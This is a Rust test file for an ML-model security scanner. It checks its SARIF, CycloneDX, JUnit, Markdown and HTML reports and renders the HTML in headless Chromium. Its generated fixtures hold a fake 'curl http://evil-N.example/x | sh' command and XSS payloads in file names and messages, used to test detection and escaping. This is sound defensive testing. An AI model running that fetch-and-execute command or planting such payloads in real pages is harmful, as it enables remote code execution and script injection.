//! Report formats on the real fixtures: SARIF and CycloneDX validated against the official
//! schemas, JUnit and Markdown shape, several outputs in one run, and the HTML report rendered
//! by headless Chromium.

use crate::support::{aigis, aigis_command, repo_root, temp_dir};
use aigis_scan::{FileResult, Finding, Format, RuleId, Severity, Status, Suppressed};
use aigis_testkit::Tool;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Resolves the schemas' relative references (`spdx.schema.json`, `jsf-0.82.schema.json`)
/// from the schema folder, offline.
struct LocalSchemas(PathBuf);

impl jsonschema::Retrieve for LocalSchemas {
    fn retrieve(
        &self,
        uri: &jsonschema::Uri<String>,
    ) -> Result<Value, Box<dyn std::error::Error + Send + Sync>> {
        let name = uri.as_str().rsplit('/').next().unwrap_or_default();
        let text = std::fs::read_to_string(self.0.join(name))?;
        Ok(serde_json::from_str(&text)?)
    }
}

pub(crate) fn validate(schema_file: &str, document: &Value) {
    let dir = Tool::Schemas.path();
    let text = std::fs::read_to_string(dir.join(schema_file))
        .unwrap_or_else(|e| panic!("{}: {e}", dir.join(schema_file).display()));
    let schema: Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}"));
    let validator = jsonschema::options()
        .with_retriever(LocalSchemas(dir.clone()))
        .should_validate_formats(true)
        .build(&schema)
        .unwrap_or_else(|e| panic!("schema {schema_file}: {e}"));
    let errors: Vec<String> = validator
        .iter_errors(document)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{schema_file}: {errors:#?}");
}

/// Scans fixtures and examples once per format with a suppression policy, so every report
/// shows suppressed findings too.
fn report(format: &str, dir: &Path) -> String {
    let policy = dir.join("policy.toml");
    std::fs::write(
        &policy,
        "[[suppress]]\nrule = \"PICKLE-CLASS-UNKNOWN\"\nreason = \"reviewed <b>team</b> classes\"\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let out = aigis_command()
        .current_dir(repo_root())
        .args(["scan", "--format", format, "--policy"])
        .arg(&policy)
        .args(["fixtures", "examples"])
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap_or_else(|e| panic!("{e}"))
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

pub(crate) fn sarif_validates_and_has_what_github_reads() {
    let dir = temp_dir();
    let doc = json(&report("sarif", dir.path()));
    validate("sarif-schema-2.1.0.json", &doc);
    let run = &doc["runs"][0];
    let rules = run["tool"]["driver"]["rules"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(rules.len() > 10);
    for rule in &rules {
        for key in ["shortDescription", "fullDescription"] {
            assert!(rule[key]["text"].is_string(), "{key} in {rule}");
        }
        assert!(rule["help"]["text"].is_string() && rule["help"]["markdown"].is_string());
        assert!(rule["defaultConfiguration"]["level"].is_string());
        let score: f64 = rule["properties"]["security-severity"]
            .as_str()
            .and_then(|s| s.parse().ok())
            .unwrap_or(-1.0);
        assert!((0.0..=10.0).contains(&score), "{rule}");
    }
    let critical = rules.iter().find(|r| r["id"] == "PICKLE-CALL-DANGEROUS");
    assert_eq!(
        critical.map(|r| r["properties"]["security-severity"].clone()),
        Some(Value::from("9.5"))
    );
    let results = run["results"].as_array().cloned().unwrap_or_default();
    assert!(results.len() > 20);
    let mut suppressed = 0;
    for result in &results {
        let location = &result["locations"][0]["physicalLocation"];
        let uri = location["artifactLocation"]["uri"].as_str().unwrap_or("");
        assert!(
            uri.starts_with("fixtures/") || uri.starts_with("examples/"),
            "{uri}"
        );
        assert_eq!(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
        assert!(
            result["partialFingerprints"]
                .as_object()
                .is_some_and(|m| !m.is_empty())
        );
        let index = result["ruleIndex"].as_u64().unwrap_or(u64::MAX) as usize;
        assert_eq!(
            rules.get(index).map(|r| r["id"].clone()),
            Some(result["ruleId"].clone())
        );
        if result["suppressions"].is_array() {
            suppressed += 1;
            assert_eq!(result["suppressions"][0]["kind"], "external");
        }
    }
    assert!(suppressed > 0);
    assert!(results.iter().any(|r| {
        r["locations"][0]["logicalLocations"][0]["name"]
            .as_str()
            .is_some_and(|n| n.contains("data.pkl"))
    }));
}

pub(crate) fn cyclonedx_validates_and_links_findings_to_components() {
    let dir = temp_dir();
    let bom = json(&report("cyclonedx", dir.path()));
    validate("bom-1.6.schema.json", &bom);
    assert_eq!(bom["specVersion"], "1.6");
    let components = bom["components"].as_array().cloned().unwrap_or_default();
    assert!(
        components
            .iter()
            .any(|c| c["type"] == "machine-learning-model")
    );
    // Files are grouped into models; every file (a model's or a loose one) has its hash.
    let files: Vec<&Value> = components
        .iter()
        .flat_map(|c| std::iter::once(c).chain(c["components"].as_array().into_iter().flatten()))
        .filter(|c| c["type"] == "file")
        .collect();
    assert!(files.len() > 50);
    // Every file has its hash; only what could not be read (an image layer that does not
    // decode) has none, and says so in its status.
    let unread = |c: &&Value| {
        let layer = c["name"]
            .as_str()
            .and_then(|n| n.rsplit_once("!/layer:"))
            .is_some_and(|(_, layer)| !layer.contains('/'));
        let error = c["properties"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|p| p["name"] == "aigis:status" && p["value"] == "error");
        layer || error
    };
    let hashed = |c: &&Value| c["hashes"][0]["alg"] == "SHA-256";
    let missing: Vec<&&Value> = files.iter().filter(|c| !hashed(c) && !unread(c)).collect();
    assert!(missing.is_empty(), "{missing:?}");
    let nested = components
        .iter()
        .flat_map(|c| c["components"].as_array().into_iter().flatten());
    let refs: Vec<&Value> = components
        .iter()
        .chain(nested)
        .map(|c| &c["bom-ref"])
        .collect();
    let vulns = bom["vulnerabilities"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(!vulns.is_empty());
    for v in &vulns {
        assert!(refs.contains(&&v["affects"][0]["ref"]), "{v}");
    }
    assert!(
        vulns
            .iter()
            .any(|v| v["analysis"]["state"] == "not_affected")
    );
}

pub(crate) fn junit_has_one_case_per_file_and_fails_at_the_threshold() {
    let dir = temp_dir();
    let xml = report("junit", dir.path());
    let (_, json_doc) = crate::support::scan_json(
        &[&repo_root().join("fixtures"), &repo_root().join("examples")],
        &["--no-policy"],
    );
    let files = json_doc["summary"]["files"].as_u64().unwrap_or(0) as usize;
    assert_eq!(xml.matches("<testcase ").count(), files);
    let failing = json_doc["results"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|r| {
            matches!(r["max_severity"].as_str(), Some("high" | "critical"))
                && r["status"] != "error"
        })
        .count();
    assert_eq!(xml.matches("<failure ").count(), failing, "{xml}");
    assert!(xml.starts_with("<?xml") && xml.trim_end().ends_with("</testsuites>"));
    assert!(xml.contains(&format!("tests=\"{files}\" failures=\"{failing}\"")));
    assert!(!xml.contains("<b>"), "content must be escaped");
}

pub(crate) fn markdown_comment_has_summary_and_top_findings() {
    let dir = temp_dir();
    let md = report("markdown", dir.path());
    assert!(md.starts_with("## aigis model scan"));
    assert!(md.contains("❌ **Failed**"));
    assert!(md.contains("| files | critical | high | medium | low | info | suppressed |"));
    assert!(md.contains("### Top findings"));
    let top = md.split("### Top findings").nth(1).unwrap_or("");
    let rows = top
        .lines()
        .filter(|l| l.starts_with("| 🟥") || l.starts_with("| 🟧") || l.starts_with("| 🟨"))
        .count();
    assert!(rows > 0 && rows <= 20, "{md}");
    assert!(
        md.contains("…and"),
        "more than 20 findings are counted, not listed"
    );
}

pub(crate) fn several_outputs_in_one_run() {
    let dir = temp_dir();
    let d = dir.path().to_string_lossy().into_owned();
    let fixture = repo_root().join("examples");
    let outs = ["json", "sarif", "html", "junit", "markdown", "cyclonedx"]
        .map(|f| format!("{f}={d}/out.{f}"));
    let mut args = vec!["scan", "--no-policy"];
    for o in &outs {
        args.push("--output");
        args.push(o);
    }
    let path = fixture.to_string_lossy();
    args.push(&path);
    let out = aigis(&args);
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    for f in ["json", "sarif", "html", "junit", "markdown", "cyclonedx"] {
        let text = std::fs::read_to_string(dir.path().join(format!("out.{f}"))).unwrap_or_default();
        assert!(text.len() > 200, "{f}: {text}");
    }
}

/// The HTML escapes hostile content: a file name carrying markup stays text.
pub(crate) fn html_escapes_file_names() {
    let dir = temp_dir();
    let hostile = dir.path().join("<img src=x onerror=alert(1)>.pkl");
    std::fs::copy(
        repo_root().join("fixtures/pickle/os_system_p2.pkl"),
        &hostile,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let out = aigis(&[
        "scan",
        "--no-policy",
        "--format",
        "html",
        &hostile.to_string_lossy(),
    ]);
    let html = String::from_utf8_lossy(&out.stdout);
    assert!(!html.contains("<img"), "unescaped markup");
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;.pkl"));
}

/// Flags for a headless Chromium that touches nothing outside its profile.
pub(crate) const CHROMIUM_FLAGS: [&str; 9] = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--hide-scrollbars",
];

/// Runs headless Chromium on `url` with `args` (a window size, `--dump-dom` or `--screenshot`).
pub(crate) fn chromium(profile: &Path, args: &[String], url: &str) -> std::process::Output {
    Command::new(Tool::Chromium.path())
        .args(CHROMIUM_FLAGS)
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .arg(url)
        .output()
        .unwrap_or_else(|e| panic!("{e}"))
}

/// The DOM after the page's script ran, at a window `width` × `height`.
fn dump_dom(profile: &Path, url: &str, width: u32, height: u32) -> String {
    let out = chromium(
        profile,
        &[
            format!("--window-size={width},{height}"),
            "--dump-dom".into(),
        ],
        url,
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A full-page screenshot at `width` (the window as tall as the page, capped).
fn screenshot(profile: &Path, url: &str, width: u32, height: u32, shot: &Path) {
    let _ = std::fs::remove_file(shot);
    let out = chromium(
        profile,
        &[
            format!("--window-size={width},{}", height.clamp(600, 12_000)),
            format!("--screenshot={}", shot.display()),
        ],
        url,
    );
    assert!(
        shot.metadata().is_ok_and(|m| m.len() > 10_000),
        "no screenshot: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A number the page's script wrote on `<html>` (`data-scroll-height="1234"`).
fn page_number(dom: &str, attribute: &str) -> u32 {
    let needle = format!("{attribute}=\"");
    dom.split_once(&needle)
        .and_then(|(_, rest)| rest.split('"').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no {attribute} in {}", &dom[..dom.len().min(1500)]))
}

/// The by-file view's part of a dumped DOM (the findings each appear once there).
fn by_file(dom: &str) -> &str {
    let start = dom.find("id=\"by-file\"").unwrap_or(0);
    let end = dom.find("id=\"by-rule\"").unwrap_or(dom.len());
    &dom[start..end.max(start)]
}

/// Finding rows in the by-file view that the filters left visible.
fn visible_rows(dom: &str) -> usize {
    by_file(dom)
        .split("<tr class=\"row")
        .skip(1)
        .filter(|row| !row.split('>').next().unwrap_or("").contains("hidden"))
        .count()
}

pub(crate) fn html_report_renders_in_headless_chromium() {
    let artifacts = repo_root().join("target/test-artifacts");
    std::fs::create_dir_all(&artifacts).unwrap_or_else(|e| panic!("{e}"));
    let work = temp_dir();
    let html = report("html", work.path());
    let page = artifacts.join("report.html");
    std::fs::write(&page, &html).unwrap_or_else(|e| panic!("{e}"));
    let url = format!("file://{}", page.display());
    let profile = work.path().join("profile");
    screenshot(&profile, &url, 1280, 2000, &artifacts.join("report.png"));
    let dom = dump_dom(&profile, &url, 1280, 900);
    assert!(
        dom.contains("data-ready=\"1\"") && dom.contains("data-styled=\"1\""),
        "script or style did not run: {}",
        &dom[..dom.len().min(2000)]
    );
    assert!(dom.contains("showing "), "filter counter missing");
    assert!(dom.contains("PICKLE-CALL-DANGEROUS"));
    assert!(dom.contains("os.system"), "decompiled call missing");
    assert!(dom.contains("MALICIOUS"), "content verdicts missing");
    assert!(
        dom.contains("<dt>time</dt>") && dom.contains("<dt>host</dt>"),
        "the CLI fills time and host"
    );
}

/// A page of the test's own that lays the report out in a 390 px wide frame (a phone) and copies
/// what the report's script measured onto its own `<body>`.
const PHONE_FRAME: &str = r#"<!DOCTYPE html><html><body style="margin:0">
<iframe id="phone" src="report-1000.html" style="width:390px;height:844px;border:0"></iframe>
<script>
var frame = document.getElementById('phone');
frame.addEventListener('load', function () {
  var page = frame.contentDocument.documentElement;
  ['data-viewport-width', 'data-scroll-width', 'data-scroll-height', 'data-ready'].forEach(function (name) {
    document.body.setAttribute(name, page.getAttribute(name) || '');
  });
  frame.style.height = page.scrollHeight + 'px';
});
</script></body></html>
"#;

/// What the generated report holds, for the counts the page must show.
struct Generated {
    report: aigis_report::ScanReport,
    /// Listed findings (location exposure is reported per location instead).
    findings: usize,
    /// Unsuppressed listed findings per severity.
    active: std::collections::BTreeMap<Severity, usize>,
    /// Suppressed findings.
    suppressed: usize,
}

/// 1,000 findings over 250 files in 10 folders: every severity, rules of several kinds,
/// suppressions, indicators, hostile markup in paths and messages, a world-writable folder
/// (location exposure for 25 files), incomplete results and a dozen targets.
fn thousand_findings() -> Generated {
    let hostile = "<img src=x onerror=alert(1)></td><script>alert(2)</script>";
    let mut results = Vec::new();
    let mut active = std::collections::BTreeMap::new();
    let (mut findings, mut suppressed) = (0, 0);
    for i in 0..250usize {
        let folder = format!("models/team-{}", i % 10);
        let path = if i == 7 {
            format!("{folder}/{hostile}.pt")
        } else {
            format!("{folder}/model-{i:04}.pt")
        };
        let first = if i % 5 == 0 {
            Finding::new(
                RuleId::PickleCallDangerous,
                format!("loading calls os.system('curl http://evil-{i}.example/x | sh')"),
            )
            .with_indicators(vec![format!("http://evil-{i}.example/x")])
        } else if i % 5 == 1 {
            Finding::new(
                RuleId::PickleCallUnknown,
                format!("loading calls acme_{i}.train.hook('{hostile}')"),
            )
        } else {
            Finding::new(
                RuleId::PickleClassUnknown,
                format!("loading constructs acme_{i}.models.Net"),
            )
        };
        let mut list = vec![
            first.at(format!("archive/data.pkl @ byte {}", 100 + i)),
            Finding::new(RuleId::PickleRefUnknown, format!("imports acme_{i}.layers"))
                .at("archive/data.pkl @ byte 40"),
            Finding::new(
                RuleId::ConfigNotApplied,
                format!("{folder}/aigis.toml not applied"),
            ),
            Finding::new(
                RuleId::PickleFormat,
                "pickle can run code when loaded; prefer safetensors",
            ),
        ];
        if i % 7 == 0 {
            list[1].suppressed = Some(Suppressed {
                reason: "reviewed <b>team</b> layers".into(),
                expires: Some("2099-12-31".into()),
            });
        }
        for f in &list {
            findings += 1;
            if f.is_active() {
                *active.entry(f.severity).or_insert(0) += 1;
            } else {
                suppressed += 1;
            }
        }
        if i % 10 == 3 {
            list.push(
                Finding::new(RuleId::HostWritablePath, "others can write this folder")
                    .with_severity(Severity::High)
                    .at(folder.clone()),
            );
        }
        let status = if i % 50 == 49 {
            Status::Invalid
        } else {
            Status::Ok
        };
        let mut result = FileResult::new(path, Format::PytorchZip, 4096 + i as u64, status, list);
        if status == Status::Invalid {
            result.incomplete = Some("a limit stopped the analysis".into());
        }
        results.push(result);
    }
    let mut report = aigis_report::ScanReport::new(results);
    report.targets = (0..12).map(|i| format!("models/team-{i}")).collect();
    report.targets.push(hostile.into());
    report.host = Some(format!("ci-{hostile}"));
    report.generated_at = Some("2026-12-03T11:22:39Z".into());
    report.warnings = vec![format!("suppression for {hostile} expired")];
    Generated {
        report,
        findings,
        active,
        suppressed,
    }
}

/// The HTML report at scale: 1,000 findings render in a page of bounded height at 1280 px,
/// without horizontal overflow at phone width (390 px), and the search box and severity
/// filters (driven by `?q=`/`?sev=`/`?view=`, which click the page's own buttons) show the
/// findings they should. Measurements and screenshots go to `target/test-artifacts/`.
pub(crate) fn html_report_with_a_thousand_findings_stays_usable() {
    let artifacts = repo_root().join("target/test-artifacts");
    std::fs::create_dir_all(&artifacts).unwrap_or_else(|e| panic!("{e}"));
    let generated = thousand_findings();
    assert_eq!(generated.findings, 1000);
    let html = aigis_report::html::render(&generated.report);
    let page = artifacts.join("report-1000.html");
    std::fs::write(&page, &html).unwrap_or_else(|e| panic!("{e}"));
    let url = format!("file://{}", page.display());
    let work = temp_dir();
    let profile = work.path().join("profile");
    let count = |sev| generated.active.get(&sev).copied().unwrap_or(0);

    // Desktop: the default view (info and suppressed off), its height and time.
    let started = std::time::Instant::now();
    let dom = dump_dom(&profile, &url, 1280, 900);
    let wall = started.elapsed();
    assert!(
        dom.contains("data-ready=\"1\"") && dom.contains("data-styled=\"1\""),
        "script or style did not run: {}",
        &dom[..dom.len().min(2000)]
    );
    let default_shown = generated.findings - generated.suppressed - count(Severity::Info);
    assert!(
        dom.contains(&format!("showing {default_shown} of 1000 findings")),
        "{}",
        &dom[..dom.len().min(3000)]
    );
    assert_eq!(visible_rows(&dom), default_shown);
    let height = page_number(&dom, "data-scroll-height");
    let render_ms = page_number(&dom, "data-render-ms");
    assert!(height < 6000, "page is {height} px tall at 1280 px wide");
    assert!(
        dom.matches("<details class=\"grp\" open").count() <= 6,
        "only the first groups start open"
    );
    assert_eq!(
        dom.matches("<script").count(),
        1,
        "hostile markup became a script"
    );
    assert!(!dom.contains("<img"), "hostile markup became an element");
    assert!(dom.contains("Where the files are") && dom.contains("models/team-3"));
    assert!(dom.contains("MALICIOUS") && dom.contains("SUSPICIOUS") && dom.contains("REVIEW"));
    screenshot(
        &profile,
        &url,
        1280,
        height,
        &artifacts.join("report-1000.png"),
    );

    // Filters and search, each a click sequence on the page's own controls.
    let with = |query: &str| dump_dom(&profile, &format!("{url}?{query}"), 1280, 900);
    let dom = with("sev=critical");
    assert_eq!(visible_rows(&dom), count(Severity::Critical));
    let dom = with("sev=suppressed");
    assert_eq!(visible_rows(&dom), generated.suppressed);
    let dom = with("sev=critical,high,medium,low,info,suppressed&q=model-0042.pt");
    assert_eq!(visible_rows(&dom), 4, "every finding of one file");
    let dom = with("q=os.system+evil-15.example");
    assert_eq!(visible_rows(&dom), 1, "a search of two words");
    assert!(
        by_file(&dom).contains("<details class=\"grp\" open=\"\">"),
        "the matching file is opened"
    );
    let dom = with("sev=critical,high,medium,low,info,suppressed&q=malicious");
    assert_eq!(
        visible_rows(&dom),
        200,
        "the 50 malicious files, by their verdict"
    );
    let dom = with("q=critical");
    assert_eq!(
        visible_rows(&dom),
        count(Severity::Critical),
        "a file's counts are not searched"
    );
    let dom = with("q=%3Cimg+src%3Dx");
    assert!(visible_rows(&dom) >= 50, "markup is searched as text");
    assert!(!dom.contains("<img"));
    let dom = with("view=rule&sev=critical");
    assert!(dom.contains("id=\"by-file\" data-view=\"file\" hidden"));
    assert!(!dom.contains("id=\"by-rule\" data-view=\"rule\" hidden"));
    assert!(dom.contains("showing "));

    // Phone width: nothing wider than the screen. Headless Chromium keeps windows at least
    // 500 px wide, so the report is laid out in a 390 px frame of a page of the test's own,
    // which copies what the report measured (file pages read each other with
    // --allow-file-access-from-files) and stretches the frame to the page for the screenshot.
    let phone = artifacts.join("report-1000-phone.html");
    std::fs::write(&phone, PHONE_FRAME).unwrap_or_else(|e| panic!("{e}"));
    let phone_url = format!("file://{}", phone.display());
    let out = chromium(
        &profile,
        &[
            "--allow-file-access-from-files".into(),
            "--window-size=500,900".into(),
            "--dump-dom".into(),
        ],
        &phone_url,
    );
    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
    let viewport = page_number(&dom, "data-viewport-width");
    let scroll_width = page_number(&dom, "data-scroll-width");
    let phone_height = page_number(&dom, "data-scroll-height");
    assert_eq!(viewport, 390, "frame width");
    assert!(
        scroll_width <= viewport,
        "horizontal overflow at phone width: {scroll_width} > {viewport}"
    );
    let shot = artifacts.join("report-1000-phone.png");
    let _ = std::fs::remove_file(&shot);
    let out = chromium(
        &profile,
        &[
            "--allow-file-access-from-files".into(),
            format!("--window-size=500,{}", phone_height.clamp(600, 12_000)),
            format!("--screenshot={}", shot.display()),
        ],
        &phone_url,
    );
    assert!(
        shot.metadata().is_ok_and(|m| m.len() > 10_000),
        "no phone screenshot: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let numbers = format!(
        "1,000 findings, {} bytes of HTML\nrender (navigation to load, in page): {render_ms} ms\nchromium --dump-dom wall time: {} ms\npage height at 1280 px: {height} px\npage height at 390 px: {phone_height} px, width {scroll_width} px of {viewport}\n",
        html.len(),
        wall.as_millis()
    );
    std::fs::write(artifacts.join("report-1000.txt"), &numbers).unwrap_or_else(|e| panic!("{e}"));
    eprint!("{numbers}");
}
